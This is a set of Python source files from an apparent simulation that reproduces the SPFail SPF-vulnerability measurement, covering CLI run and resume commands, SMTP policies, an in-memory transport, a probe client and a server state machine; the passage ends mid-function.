    was checkpointed) and the shared ``--ledger`` file (when given).
    Appending happens strictly *after* every deterministic artifact and
    the perf merge are on disk — the ledger reads the run, never the
    other way around, so trace/CSV/report bytes are identical with the
    ledger on or off.
    """
    paths = []
    if store is not None and sim.config is not None:
        paths.append(store.ledger_path(sim.config))
    shared = getattr(args, "ledger", None)
    if shared:
        paths.append(shared)
    if not paths:
        return
    from ..obs.ledger import append_record, build_record

    record = build_record(
        sim,
        kind=kind,
        wall_seconds=wall_seconds,
        perf_dir=getattr(args, "perf", None),
    )
    for path in paths:
        append_record(path, record)
    print(f"ledger: record appended to {', '.join(paths)}")


def run_command(args: argparse.Namespace, *, legacy: bool = False) -> int:
    from ..errors import CampaignAborted

    if args.list:
        print("\n".join(ARTIFACT_NAMES))
        return 0
    if legacy:
        print(
            "note: running via top-level flags is deprecated; "
            "use `python -m repro run ...`",
            file=sys.stderr,
        )

    perf_dir = getattr(args, "perf", None)
    observation = make_observation(
        args, trace=bool(args.trace) or bool(perf_dir)
    )

    from .. import api

    config = api.RunConfig(
        scale=args.scale,
        seed=args.seed,
        executor=args.executor,
        workers=args.workers,
        trace=bool(args.trace) or bool(perf_dir),
        world=getattr(args, "world", "lazy"),
        perf=perf_dir,
    )
    print(f"Building the synthetic Internet (scale={args.scale}, seed={args.seed})...")
    handle = api.open_run(config, observation=observation)
    sim = handle.simulation
    if observation is not None and observation.perf is not None:
        from ..obs.perf import simulation_counters

        observation.perf.start_sampler(lambda: simulation_counters(sim))

    store = None
    store_dir = getattr(args, "store", None)
    if store_dir:
        from ..store import RunStore

        store = RunStore(store_dir)
        store.abort_after_round = getattr(args, "abort_after_round", None)
    elif getattr(args, "abort_after_round", None) is not None:
        print("--abort-after-round requires --store", file=sys.stderr)
        return 2

    if args.progress:
        from ..obs.progress import ProgressReporter

        reporter = ProgressReporter()
        if observation is not None:
            reporter.perf = observation.perf
        sim.campaign.executor.progress = reporter
    executor_name = type(sim.campaign.executor).__name__
    print(
        f"  {len(sim.population):,} domains / {sim.fleet.total_ip_count():,} addresses; "
        f"running the four-month campaign ({executor_name}, "
        f"workers={args.workers})..."
    )
    from time import perf_counter

    from ..store import StoreError

    try:
        started = perf_counter()
        try:
            handle.run(store=store)
        except CampaignAborted as abort:
            print(f"run aborted: {abort}")
            return 0
        except StoreError as error:
            # Most commonly: another writer (a batch run or a serve
            # daemon) holds the run's single-writer lock.
            print(f"run failed: {error}", file=sys.stderr)
            return 2
        run_wall = perf_counter() - started
        code = emit_outputs(sim, args)
    finally:
        # After sim.run the executor has shut down (its finally), so
        # every worker's part streams are on disk and safe to merge.
        finalize_perf(observation)
    # The ledger record is built after the perf merge so a profiled
    # run's record can embed the per-stage wall attribution.
    append_ledger(sim, args, store=store, wall_seconds=run_wall, kind="run")
    return code


def resume_command(args: argparse.Namespace) -> int:
    from .. import api
    from ..store import RunStore, StoreError

    store = RunStore(args.store)
    expected = None
    if hasattr(args, "resume_scale") or hasattr(args, "resume_seed"):
        expected = api.RunConfig(
            scale=getattr(args, "resume_scale", 0.01),
            seed=getattr(args, "resume_seed", 20211011),
        )
    try:
        state = store.load_latest(
            config_hash=expected.content_hash() if expected is not None else None
        )
    except StoreError as error:
        print(f"resume failed: {error}", file=sys.stderr)
        return 2

    perf_dir = getattr(args, "perf", None)
    trace = state.config.trace or bool(args.trace) or bool(perf_dir)
    if args.trace and not state.config.trace:
        print(
            "warning: the stored run was not traced; the resumed trace "
            "will miss the checkpointed prefix",
            file=sys.stderr,
        )
    observation = make_observation(args, trace=trace)

    overrides = {}
    if hasattr(args, "resume_executor"):
        overrides["executor"] = args.resume_executor
    if hasattr(args, "resume_workers"):
        overrides["workers"] = args.resume_workers
    # Whether the resumed leg is profiled is always this invocation's
    # choice — never inherited from the checkpointed config.
    handle = api.resume(
        state, observation=observation, perf=perf_dir, **overrides
    )
    sim = handle.simulation
    if observation is not None and observation.perf is not None:
        from ..obs.perf import simulation_counters

        observation.perf.start_sampler(lambda: simulation_counters(sim))
    provenance = sim.provenance
    print(
        f"Resuming {state.run_id} (config {provenance.config_hash[:12]}) from "
        f"checkpoint '{provenance.checkpoint_kind}' with "
        f"{provenance.rounds_completed} rounds completed..."
    )

    if args.progress:
        from ..obs.progress import ProgressReporter

        reporter = ProgressReporter()
        if observation is not None:
            reporter.perf = observation.perf
        sim.campaign.executor.progress = reporter
    from time import perf_counter

    try:
        started = perf_counter()
        try:
            handle.run(store=store)
        except StoreError as error:
            print(f"resume failed: {error}", file=sys.stderr)
            return 2
        run_wall = perf_counter() - started
        code = emit_outputs(sim, args)
    finally:
        finalize_perf(observation)
    append_ledger(sim, args, store=store, wall_seconds=run_wall, kind="resume")
    return code
