"""Command-line interface: run the SPFail reproduction.

Usage::

    python -m repro run                   # full campaign at scale 0.01
    python -m repro run --scale 0.02      # bigger synthetic Internet
    python -m repro run --artifact table4 # one table/figure only
    python -m repro run --list            # available artifacts
    python -m repro run --trace t.jsonl --metrics-out m.json  # observability
    python -m repro run --store runs/     # checkpoint after every round
    python -m repro resume --store runs/  # continue an interrupted campaign
    python -m repro serve --scale 0.05    # long-lived scan API daemon
    python -m repro serve --loadtest 500  # serve, self-load-test, exit
    python -m repro trace summary t.jsonl # analyze a captured trace
    python -m repro trace diff a.jsonl b.jsonl   # pinpoint first divergence
    python -m repro run --ledger perf.jsonl      # append a perf-ledger record
    python -m repro obs history perf.jsonl       # cross-run trend tables
    python -m repro obs regress BASE CAND        # noise-gated regression gate

The package splits by subcommand — :mod:`.parser` (all flags),
:mod:`.runcmd` (``run``/``resume``, through :mod:`repro.api`),
:mod:`.servecmd` (the daemon), :mod:`.tracecmd`, :mod:`.obscmd`, and
:mod:`.artifacts` (table/figure registry).  ``python -m repro`` enters
through :mod:`repro.__main__`, which re-exports :func:`main` from here.
"""

from __future__ import annotations

from .artifacts import ARTIFACT_NAMES
from .parser import build_parser

__all__ = ["ARTIFACT_NAMES", "build_parser", "main"]


def main(argv=None) -> int:
    parser = build_parser()
    args = parser.parse_args(argv)
    command = getattr(args, "command", None)
    if command == "trace":
        from . import tracecmd

        if args.trace_command == "summary":
            return tracecmd.trace_summary(args)
        if args.trace_command == "profile":
            return tracecmd.trace_profile(args)
        return tracecmd.trace_diff(args)
    if command == "obs":
        from . import obscmd

        if args.obs_command == "history":
            return obscmd.obs_history(args)
        if args.obs_command == "regress":
            return obscmd.obs_regress(args)
        return obscmd.obs_record(args)
    if command == "serve":
        from .servecmd import serve_command

        return serve_command(args)
    from .runcmd import resume_command, run_command

    if command == "resume":
        return resume_command(args)
    return run_command(args, legacy=command is None)
