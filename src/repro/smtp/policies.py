"""Per-server behavior policies.

The paper's Table 3 shows that real MTAs fall into several buckets:
refusing connections outright, failing the SMTP dialogue at various
stages, greylisting, accepting but never validating SPF, or validating
SPF at different points of the transaction.  :class:`ServerPolicy`
captures those degrees of freedom for one simulated MTA.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import FrozenSet, Optional


class SpfTiming(enum.Enum):
    """When (if ever) the server triggers SPF validation.

    The paper's NoMsg probe (terminate after the DATA command) only
    elicits SPF queries from servers that validate at or before the DATA
    command; BlankMsg (transmit an empty message) additionally catches
    servers that defer validation until a message has been received.
    """

    ON_MAIL_FROM = "on-mail-from"
    ON_DATA_COMMAND = "on-data-command"
    AFTER_MESSAGE = "after-message"
    NEVER = "never"

    @property
    def triggered_by_nomsg(self) -> bool:
        return self in (SpfTiming.ON_MAIL_FROM, SpfTiming.ON_DATA_COMMAND)

    @property
    def triggered_by_blankmsg(self) -> bool:
        return self != SpfTiming.NEVER


class FailureStage(enum.Enum):
    """Where in the dialogue a failing server breaks the transaction."""

    NONE = "none"
    BANNER = "banner"  # 421/554 immediately after connect
    HELO = "helo"
    MAIL_FROM = "mail-from"
    RCPT_TO = "rcpt-to"
    DATA = "data"
    MESSAGE = "message"  # rejects only at end-of-data (BlankMsg failures)


@dataclass(frozen=True)
class GreylistPolicy:
    """Greylisting: temporary 450 on the first delivery attempt.

    ``retry_after_seconds`` is the minimum age of the first attempt before
    a retry is accepted (the paper waited eight minutes before retrying
    greylisted servers).
    """

    enabled: bool = False
    retry_after_seconds: int = 300


@dataclass(frozen=True)
class RecipientPolicy:
    """Which RCPT TO addresses a server accepts.

    ``accept_any`` models catch-all servers.  Otherwise only local parts
    in ``accepted_usernames`` receive 250; everything else gets 550,
    prompting the prober to walk its curated username list.
    """

    accept_any: bool = True
    accepted_usernames: FrozenSet[str] = frozenset()

    def accepts(self, local_part: str) -> bool:
        return self.accept_any or local_part.lower() in self.accepted_usernames


@dataclass
class ServerPolicy:
    """All behavior knobs for one simulated MTA."""

    refuse_connections: bool = False
    failure_stage: FailureStage = FailureStage.NONE
    spf_timing: SpfTiming = SpfTiming.ON_MAIL_FROM
    greylist: GreylistPolicy = field(default_factory=GreylistPolicy)
    recipients: RecipientPolicy = field(default_factory=RecipientPolicy)
    #: Blacklisting: the server starts refusing the measurement client
    #: mid-campaign (a major cause of inconclusive longitudinal results).
    blacklists_after_probes: Optional[int] = None
    #: DMARC enforcement: on non-passing SPF, look up the sender domain's
    #: DMARC policy and honor p=reject/quarantine at end-of-data.
    enforce_dmarc: bool = False
    #: Transient flakiness: after ``flaky_after_sessions`` sessions, each
    #: further session fails at the banner with this probability (and
    #: succeeds again later) — the measurement-visible noise behind the
    #: paper's fluctuating per-round conclusiveness (Figure 5).
    flaky_rate: float = 0.0
    flaky_after_sessions: int = 2

    def copy(self) -> "ServerPolicy":
        return ServerPolicy(
            refuse_connections=self.refuse_connections,
            failure_stage=self.failure_stage,
            spf_timing=self.spf_timing,
            greylist=self.greylist,
            recipients=self.recipients,
            blacklists_after_probes=self.blacklists_after_probes,
        )
