"""A simulated SMTP substrate.

Models the mail-transfer-agent side of the SPFail measurement:

- :mod:`repro.smtp.protocol` — commands, reply codes, and line discipline,
- :mod:`repro.smtp.policies` — per-server behavior knobs (refusal,
  failures, greylisting, blacklisting, recipient policy, and *when* the
  server triggers SPF validation),
- :mod:`repro.smtp.server` — the receiving MTA state machine, wired to one
  or more SPF validators (a server can run several SPF stacks, e.g. an MTA
  plus a spam filter, reproducing the paper's multi-implementation
  observation),
- :mod:`repro.smtp.client` — the measurement client implementing the
  paper's NoMsg and BlankMsg probe transactions,
- :mod:`repro.smtp.transport` — the in-memory network connecting them.
"""

from .protocol import Reply, Command, ReplyCode
from .policies import (
    ServerPolicy,
    SpfTiming,
    FailureStage,
    GreylistPolicy,
    RecipientPolicy,
)
from .server import SmtpServer, SpfStack, SessionLog
from .client import SmtpClient, TransactionKind, TransactionResult, TransactionStatus
from .transport import Network, ConnectionRefused

__all__ = [
    "Reply",
    "Command",
    "ReplyCode",
    "ServerPolicy",
    "SpfTiming",
    "FailureStage",
    "GreylistPolicy",
    "RecipientPolicy",
    "SmtpServer",
    "SpfStack",
    "SessionLog",
    "SmtpClient",
    "TransactionKind",
    "TransactionResult",
    "TransactionStatus",
    "Network",
    "ConnectionRefused",
]
