"""The in-memory network connecting SMTP clients to servers.

:class:`Network` maps server IP addresses to :class:`SmtpServer`
instances and hands out live sessions.  Connection refusal happens here
(before any SMTP dialogue), matching the paper's "Connection Refused"
bucket in Table 3.
"""

from __future__ import annotations

import datetime as _dt
from typing import TYPE_CHECKING, Callable, Dict, Optional

from ..errors import SmtpError

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from .server import SmtpServer, SmtpSession


class ConnectionRefused(SmtpError):
    """The target host did not accept the TCP connection."""


class Network:
    """An IP-address-indexed registry of simulated mail servers."""

    def __init__(self, clock: Optional[Callable[[], _dt.datetime]] = None) -> None:
        self._servers: Dict[str, "SmtpServer"] = {}
        self._clock = clock or (lambda: _dt.datetime.now(tz=_dt.timezone.utc))
        self.connection_attempts = 0
        self.connections_established = 0

    def register(self, server: "SmtpServer") -> None:
        if server.ip in self._servers:
            raise SmtpError(f"duplicate server registration for {server.ip}")
        self._servers[server.ip] = server

    def server_at(self, ip: str) -> Optional["SmtpServer"]:
        return self._servers.get(ip)

    def __contains__(self, ip: str) -> bool:
        return ip in self._servers

    def __len__(self) -> int:
        return len(self._servers)

    def connect(self, client_ip: str, server_ip: str) -> "SmtpSession":
        """Open a TCP connection; raises :class:`ConnectionRefused` if the
        host is absent or refusing."""
        self.connection_attempts += 1
        server = self._servers.get(server_ip)
        if server is None:
            raise ConnectionRefused(f"no host at {server_ip}")
        if server.policy.refuse_connections:
            raise ConnectionRefused(f"{server_ip} refused the connection")
        self.connections_established += 1
        return server.accept(client_ip, self._clock())
