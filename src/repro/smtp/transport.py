"""The in-memory network connecting SMTP clients to servers.

:class:`Network` maps server IP addresses to :class:`SmtpServer`
instances and hands out live sessions.  Connection refusal happens here
(before any SMTP dialogue), matching the paper's "Connection Refused"
bucket in Table 3.

The network can be backed by a *server provider* — the lazy fleet's
first-touch materialization hook.  With a provider, servers are created
the first time an address is looked up and **synced** on every touch, so
time-dependent state (address moves, patch plans) is a pure function of
the clock rather than of scheduled callbacks.  Without a provider, the
network is the plain dict registry it always was (tests and tools keep
registering hand-built servers).
"""

from __future__ import annotations

import datetime as _dt
from typing import TYPE_CHECKING, Callable, Dict, Iterator, Optional

from ..errors import SmtpError

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from .server import SmtpServer, SmtpSession


class ConnectionRefused(SmtpError):
    """The target host did not accept the TCP connection."""


class Network:
    """An IP-address-indexed registry of simulated mail servers.

    ``provider``, when given, must expose::

        create(ip) -> Optional[SmtpServer]   # first-touch materialization
        sync(server, now, patch_model)       # fold time into cached state
        has(ip) -> bool                      # membership without creating
        addressable_ips() -> Iterator[str]   # the full addressable space

    ``self._servers`` then holds only the *touched* servers — the set the
    checkpoint store persists — while membership and totals answer from
    the provider without materializing anything.
    """

    def __init__(
        self,
        clock: Optional[Callable[[], _dt.datetime]] = None,
        provider=None,
    ) -> None:
        self._servers: Dict[str, "SmtpServer"] = {}
        self._clock = clock or (lambda: _dt.datetime.now(tz=_dt.timezone.utc))
        self._provider = provider
        self._patch_model = None
        self._addressable_count: Optional[int] = None
        self.connection_attempts = 0
        self.connections_established = 0

    def register(self, server: "SmtpServer") -> None:
        if server.ip in self._servers:
            raise SmtpError(f"duplicate server registration for {server.ip}")
        self._servers[server.ip] = server

    def bind_patch_model(self, patch_model) -> None:
        """Make server syncs apply this model's patch plans."""
        self._patch_model = patch_model

    def server_at(self, ip: str) -> Optional["SmtpServer"]:
        server = self._servers.get(ip)
        if self._provider is None:
            return server
        if server is None:
            server = self._provider.create(ip)
            if server is None:
                return None
            self._servers[ip] = server
        self._provider.sync(server, self._clock(), self._patch_model)
        return server

    def __contains__(self, ip: str) -> bool:
        if ip in self._servers:
            return True
        return self._provider is not None and self._provider.has(ip)

    def __len__(self) -> int:
        if self._provider is None:
            return len(self._servers)
        if self._addressable_count is None:
            self._addressable_count = sum(
                1 for _ in self._provider.addressable_ips()
            )
        return self._addressable_count

    @property
    def materialized_count(self) -> int:
        """How many servers have actually been touched into existence."""
        return len(self._servers)

    def perf_counters(self) -> Dict[str, int]:
        """Read-only telemetry (repro.obs.perf counter surface)."""
        return {
            "network.servers_materialized": len(self._servers),
            "network.connection_attempts": self.connection_attempts,
            "network.connections_established": self.connections_established,
        }

    def materialize_all(self) -> None:
        """Eagerly build every addressable server (the pre-lazy behavior).

        ``--world eager`` routes through this: the same per-unit RNG
        forks produce the same servers, just all up front, so traces are
        byte-identical to the lazy path while memory is O(world) again.
        """
        if self._provider is None:
            return
        for ip in self._provider.addressable_ips():
            self.server_at(ip)

    def connect(self, client_ip: str, server_ip: str) -> "SmtpSession":
        """Open a TCP connection; raises :class:`ConnectionRefused` if the
        host is absent or refusing."""
        self.connection_attempts += 1
        server = self.server_at(server_ip)
        if server is None:
            raise ConnectionRefused(f"no host at {server_ip}")
        if server.policy.refuse_connections:
            raise ConnectionRefused(f"{server_ip} refused the connection")
        self.connections_established += 1
        return server.accept(client_ip, self._clock())
