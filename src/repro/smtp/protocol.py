"""SMTP protocol primitives (RFC 5321 subset).

Only the command surface the SPFail measurement exercises is modeled:
HELO/EHLO, MAIL FROM, RCPT TO, DATA, RSET, NOOP, QUIT.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Optional, Tuple

from ..errors import SmtpProtocolError


class ReplyCode(enum.IntEnum):
    """The reply codes the simulation produces."""

    READY = 220
    CLOSING = 221
    OK = 250
    START_MAIL_INPUT = 354
    SERVICE_UNAVAILABLE = 421
    MAILBOX_BUSY = 450
    LOCAL_ERROR = 451
    MAILBOX_UNAVAILABLE = 550
    SYNTAX_ERROR = 500
    BAD_SEQUENCE = 503
    TRANSACTION_FAILED = 554


@dataclass(frozen=True)
class Reply:
    """One SMTP reply line."""

    code: ReplyCode
    text: str = ""

    @property
    def is_positive(self) -> bool:
        return 200 <= int(self.code) < 300

    @property
    def is_intermediate(self) -> bool:
        return 300 <= int(self.code) < 400

    @property
    def is_transient_failure(self) -> bool:
        return 400 <= int(self.code) < 500

    @property
    def is_permanent_failure(self) -> bool:
        return int(self.code) >= 500

    def to_text(self) -> str:
        return f"{int(self.code)} {self.text}".rstrip()


class Command(enum.Enum):
    HELO = "HELO"
    EHLO = "EHLO"
    MAIL = "MAIL"
    RCPT = "RCPT"
    DATA = "DATA"
    RSET = "RSET"
    NOOP = "NOOP"
    QUIT = "QUIT"


def parse_command_line(line: str) -> Tuple[Command, str]:
    """Split an SMTP command line into verb and argument.

    >>> parse_command_line("MAIL FROM:<user@example.com>")
    (<Command.MAIL: 'MAIL'>, 'FROM:<user@example.com>')
    """
    stripped = line.strip()
    if not stripped:
        raise SmtpProtocolError("empty command line")
    verb, _, argument = stripped.partition(" ")
    try:
        command = Command(verb.upper())
    except ValueError:
        raise SmtpProtocolError(f"unknown command {verb!r}") from None
    return command, argument.strip()


def parse_path(argument: str, keyword: str) -> str:
    """Extract the address from ``FROM:<addr>`` / ``TO:<addr>``.

    The empty reverse-path ``<>`` is legal for MAIL FROM and returns "".
    """
    upper = argument.upper()
    if not upper.startswith(keyword.upper() + ":"):
        raise SmtpProtocolError(f"expected {keyword}:<...>, got {argument!r}")
    path = argument[len(keyword) + 1 :].strip()
    if path.startswith("<") and path.endswith(">"):
        path = path[1:-1]
    return path.strip()


def address_domain(address: str) -> Optional[str]:
    """The domain part of an email address, if present."""
    if "@" in address:
        return address.rsplit("@", 1)[1].lower() or None
    return None
