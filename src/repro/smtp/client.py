"""The measurement SMTP client: NoMsg and BlankMsg probe transactions.

Section 5.1 of the paper: the client connects, advertises a MAIL FROM
whose domain is a unique subdomain of the measurement zone, then either

- **NoMsg** — proceeds through the DATA command and drops the connection
  before transmitting any message (guaranteeing nothing is delivered), or
- **BlankMsg** — transmits a completely empty message (headers, subject,
  and body all blank, maximizing the chance it is discarded).

The client reports how far the dialogue got; *conclusiveness* is decided
elsewhere, from the DNS queries the probe elicited.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import List, Optional

from ..obs import context as _obs
from .protocol import Reply, ReplyCode
from .transport import ConnectionRefused, Network


class TransactionKind(enum.Enum):
    NOMSG = "nomsg"
    BLANKMSG = "blankmsg"


class TransactionStatus(enum.Enum):
    """How a probe transaction ended."""

    COMPLETED = "completed"  # reached its planned termination point
    REFUSED = "refused"  # TCP connection refused
    FAILED = "smtp-failure"  # 5XX/421 before the probe could finish
    GREYLISTED = "greylisted"  # 450 at RCPT; retry later
    RCPT_REJECTED = "rcpt-rejected"  # 550 for this username; try another
    DROPPED = "dropped"  # server closed the connection mid-dialogue


@dataclass
class TransactionResult:
    """The outcome of one probe transaction."""

    kind: TransactionKind
    status: TransactionStatus
    sender: str
    recipient: str
    server_ip: str
    replies: List[Reply] = field(default_factory=list)
    server_crashed: bool = False

    @property
    def reached_data(self) -> bool:
        """True if the DATA command was issued and answered."""
        return any(r.code == ReplyCode.START_MAIL_INPUT for r in self.replies)


class SmtpClient:
    """Drives probe transactions over a simulated network."""

    def __init__(
        self,
        network: Network,
        *,
        client_ip: str = "198.51.100.7",
        helo_hostname: str = "probe.dns-lab.org",
    ) -> None:
        self.network = network
        self.client_ip = client_ip
        self.helo_hostname = helo_hostname

    def probe(
        self,
        server_ip: str,
        *,
        sender: str,
        recipient: str,
        kind: TransactionKind = TransactionKind.NOMSG,
    ) -> TransactionResult:
        """Run one NoMsg or BlankMsg transaction."""
        obs = _obs.ACTIVE
        if obs is None:
            return self._probe(server_ip, sender=sender, recipient=recipient, kind=kind)
        if obs.tracer.enabled:
            with obs.tracer.span(
                "smtp.transaction", server=server_ip, kind=kind.value
            ):
                result = self._probe(
                    server_ip, sender=sender, recipient=recipient, kind=kind
                )
                obs.tracer.event(
                    "smtp.transaction.status",
                    status=result.status.value,
                    replies=len(result.replies),
                    crashed=result.server_crashed,
                )
        else:
            result = self._probe(server_ip, sender=sender, recipient=recipient, kind=kind)
        obs.metrics.counter("smtp.transactions").inc(result.status.value)
        obs.metrics.counter("smtp.probe_kinds").inc(kind.value)
        if result.server_crashed:
            obs.metrics.counter("smtp.server_crashes_observed").inc()
        return result

    def _probe(
        self,
        server_ip: str,
        *,
        sender: str,
        recipient: str,
        kind: TransactionKind,
    ) -> TransactionResult:
        result = TransactionResult(
            kind=kind,
            status=TransactionStatus.COMPLETED,
            sender=sender,
            recipient=recipient,
            server_ip=server_ip,
        )
        try:
            session = self.network.connect(self.client_ip, server_ip)
        except ConnectionRefused:
            result.status = TransactionStatus.REFUSED
            return result

        def step(reply: Reply) -> Reply:
            result.replies.append(reply)
            result.server_crashed = result.server_crashed or session.crashed
            return reply

        reply = step(session.banner())
        if not reply.is_positive:
            result.status = TransactionStatus.FAILED
            return result

        reply = step(session.command(f"EHLO {self.helo_hostname}"))
        if not reply.is_positive:
            result.status = self._failure_status(session, reply)
            return result

        reply = step(session.command(f"MAIL FROM:<{sender}>"))
        if not reply.is_positive:
            result.status = self._failure_status(session, reply)
            return result

        reply = step(session.command(f"RCPT TO:<{recipient}>"))
        if reply.code == ReplyCode.MAILBOX_BUSY:
            result.status = TransactionStatus.GREYLISTED
            session.abort()
            return result
        if reply.code == ReplyCode.MAILBOX_UNAVAILABLE:
            result.status = TransactionStatus.RCPT_REJECTED
            session.abort()
            return result
        if not reply.is_positive:
            result.status = self._failure_status(session, reply)
            return result

        reply = step(session.command("DATA"))
        if not reply.is_intermediate:
            result.status = self._failure_status(session, reply)
            return result

        if kind == TransactionKind.NOMSG:
            # Terminate before transmitting any message content.
            session.abort()
            return result

        # BlankMsg: transmit an entirely empty message.
        reply = step(session.send_message(""))
        if reply.is_permanent_failure or reply.is_transient_failure:
            # A rejected blank message is an SMTP failure for accounting,
            # but any SPF lookups it triggered still count as conclusive —
            # the detector consults the DNS log before this status.
            result.status = self._failure_status(session, reply)
            if not session.closed:
                session.abort()
            return result
        if not session.closed:
            step(session.command("QUIT"))
        return result

    @staticmethod
    def _failure_status(session, reply: Reply) -> TransactionStatus:
        if session.crashed:
            return TransactionStatus.DROPPED
        return TransactionStatus.FAILED
