"""The receiving MTA: an SMTP server state machine with SPF hooks.

A :class:`SmtpServer` owns one or more :class:`SpfStack` entries — each a
macro-expansion behavior plus a validation timing.  Real deployments often
chain several SPF consumers (the MTA itself, then a spam filter such as
SpamAssassin or Rspamd); the paper found 6% of measurable IPs emitting two
or more distinct macro-expansion patterns for a single message, which this
model reproduces directly.

The server never *delivers* probe email anywhere interesting — it records
accepted messages in an inbox list so tests can verify the measurement's
"minimized email delivery" property.
"""

from __future__ import annotations

import datetime as _dt
import ipaddress
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

from .. import ipmemo as _ipmemo
from ..dns.resolver import StubResolver
from ..errors import SmtpProtocolError
from ..obs import context as _obs
from ..spf.evaluator import CheckHostOutcome, SpfEvaluator
from ..spf.implementations import (
    MacroExpansionBehavior,
    PatchedLibSpf2Behavior,
    behavior_by_name,
)
from ..spf.result import SpfResult as _SpfResult
from .policies import FailureStage, ServerPolicy, SpfTiming
from .protocol import (
    Command,
    Reply,
    ReplyCode,
    address_domain,
    parse_command_line,
    parse_path,
)


@dataclass
class SpfStack:
    """One SPF-consuming component on a server."""

    behavior: MacroExpansionBehavior
    timing: SpfTiming = SpfTiming.ON_MAIL_FROM

    @classmethod
    def named(cls, behavior_name: str, timing: SpfTiming = SpfTiming.ON_MAIL_FROM) -> "SpfStack":
        return cls(behavior=behavior_by_name(behavior_name), timing=timing)


@dataclass
class SessionLog:
    """The transcript of one SMTP session, for tests and forensics."""

    client_ip: str
    opened: _dt.datetime
    events: List[str] = field(default_factory=list)

    def note(self, event: str) -> None:
        self.events.append(event)


@dataclass
class DeliveredMessage:
    sender: str
    recipient: str
    data: str
    received: _dt.datetime


class SmtpServer:
    """One simulated mail server (one IP address).

    ``resolver`` is the DNS path its SPF validators use — queries issued
    through it are what the measurement's authoritative server logs.
    """

    def __init__(
        self,
        ip: str,
        *,
        hostname: str = "",
        policy: Optional[ServerPolicy] = None,
        spf_stacks: Optional[List[SpfStack]] = None,
        resolver: Optional[StubResolver] = None,
    ) -> None:
        self.ip = ip
        self.hostname = hostname or f"mail-{ip.replace('.', '-').replace(':', '-')}"
        self.policy = policy or ServerPolicy()
        self.spf_stacks = spf_stacks if spf_stacks is not None else []
        self.resolver = resolver
        self.inbox: List[DeliveredMessage] = []
        self.sessions_accepted = 0
        self.crash_count = 0
        self._greylist_first_seen: Dict[Tuple[str, str], _dt.datetime] = {}
        self._blacklisted = False
        # Per-server deterministic noise source for transient flakiness.
        import random
        import zlib

        self._noise = random.Random(zlib.crc32(ip.encode("ascii")))

    # -- lifecycle / maintenance -------------------------------------------------

    def accept(self, client_ip: str, now: _dt.datetime) -> "SmtpSession":
        self.sessions_accepted += 1
        if (
            self.policy.blacklists_after_probes is not None
            and self.sessions_accepted > self.policy.blacklists_after_probes
        ):
            self._blacklisted = True
        return SmtpSession(self, client_ip, now)

    @property
    def is_vulnerable(self) -> bool:
        return any(stack.behavior.vulnerable for stack in self.spf_stacks)

    @property
    def validates_spf(self) -> bool:
        return any(stack.timing != SpfTiming.NEVER for stack in self.spf_stacks)

    def patch(self) -> bool:
        """Replace any vulnerable libSPF2 stack with the patched build.

        Returns True if anything changed.  This is what a package upgrade
        (or an admin switching SPF libraries) does to a running server.
        """
        changed = False
        for stack in self.spf_stacks:
            if stack.behavior.vulnerable:
                stack.behavior = PatchedLibSpf2Behavior()
                changed = True
        return changed

    # -- SPF validation -----------------------------------------------------------

    def _validate(
        self, timing: SpfTiming, client_ip: str, sender: str, helo: str
    ) -> List[CheckHostOutcome]:
        """Run every stack whose timing matches; returns their outcomes."""
        outcomes: List[CheckHostOutcome] = []
        if self.resolver is None:
            return outcomes
        domain = address_domain(sender) or helo
        if not domain:
            return outcomes
        try:
            ip = _ipmemo.ip_address(client_ip)
        except ValueError:
            return outcomes
        obs = _obs.ACTIVE
        for stack in self.spf_stacks:
            if stack.timing != timing:
                continue
            evaluator = SpfEvaluator(self.resolver, behavior=stack.behavior)
            outcome = evaluator.check_host(ip, domain, sender, helo_domain=helo)
            outcomes.append(outcome)
            if obs is not None:
                obs.metrics.counter("spf.validations").inc(outcome.result.value)
            if outcome.crashed:
                self.crash_count += 1
                if obs is not None:
                    obs.metrics.counter("smtp.spf_crashes").inc()
                    if obs.tracer.enabled:
                        obs.tracer.event(
                            "smtp.spf_crash",
                            server=self.ip,
                            timing=timing.value,
                            behavior=stack.behavior.name,
                        )
        return outcomes


class SmtpSession:
    """One SMTP connection's server-side state machine."""

    def __init__(self, server: SmtpServer, client_ip: str, now: _dt.datetime) -> None:
        self.server = server
        self.client_ip = client_ip
        self.now = now
        self.log = SessionLog(client_ip=client_ip, opened=now)
        self.closed = False
        self.crashed = False
        self._helo: Optional[str] = None
        self._sender: Optional[str] = None
        self._recipients: List[str] = []
        self._in_data = False
        self._spf_fail = False

    # -- helpers -----------------------------------------------------------------

    def _close(self) -> None:
        self.closed = True

    def _reply(self, code: ReplyCode, text: str = "") -> Reply:
        reply = Reply(code, text)
        self.log.note(f"<- {reply.to_text()}")
        obs = _obs.ACTIVE
        if obs is not None:
            obs.metrics.counter("smtp.replies").inc(str(code.value))
            if obs.tracer.enabled:
                obs.tracer.event("smtp.reply", code=code.value, server=self.server.ip)
        return reply

    def _policy_event(self, kind: str) -> None:
        """Record a policy-driven outcome (greylist, blacklist, ...)."""
        obs = _obs.ACTIVE
        if obs is not None:
            obs.metrics.counter("smtp.policy_outcomes").inc(kind)
            if obs.tracer.enabled:
                obs.tracer.event("smtp.policy", kind=kind, server=self.server.ip)

    def _maybe_crash(self, outcomes: List[CheckHostOutcome]) -> bool:
        if any(outcome.crashed for outcome in outcomes):
            self.crashed = True
            self._close()
            return True
        return False

    def _spf_failed(self, outcomes: List[CheckHostOutcome]) -> bool:
        return any(outcome.result is _SpfResult.FAIL for outcome in outcomes)

    # -- protocol ----------------------------------------------------------------

    def banner(self) -> Reply:
        """The 220 greeting (or the policy's failure response)."""
        if self.server._blacklisted:
            self._close()
            self._policy_event("blacklisted")
            return self._reply(ReplyCode.SERVICE_UNAVAILABLE, "access denied")
        policy = self.server.policy
        if (
            policy.flaky_rate > 0
            and self.server.sessions_accepted > policy.flaky_after_sessions
            and self.server._noise.random() < policy.flaky_rate
        ):
            self._close()
            self._policy_event("flaky")
            return self._reply(ReplyCode.SERVICE_UNAVAILABLE, "try again later")
        if self.server.policy.failure_stage == FailureStage.BANNER:
            self._close()
            self._policy_event("failure-stage")
            return self._reply(ReplyCode.SERVICE_UNAVAILABLE, "service not available")
        return self._reply(ReplyCode.READY, f"{self.server.hostname} ESMTP")

    def command(self, line: str) -> Reply:
        """Process one command line from the client."""
        if self.closed:
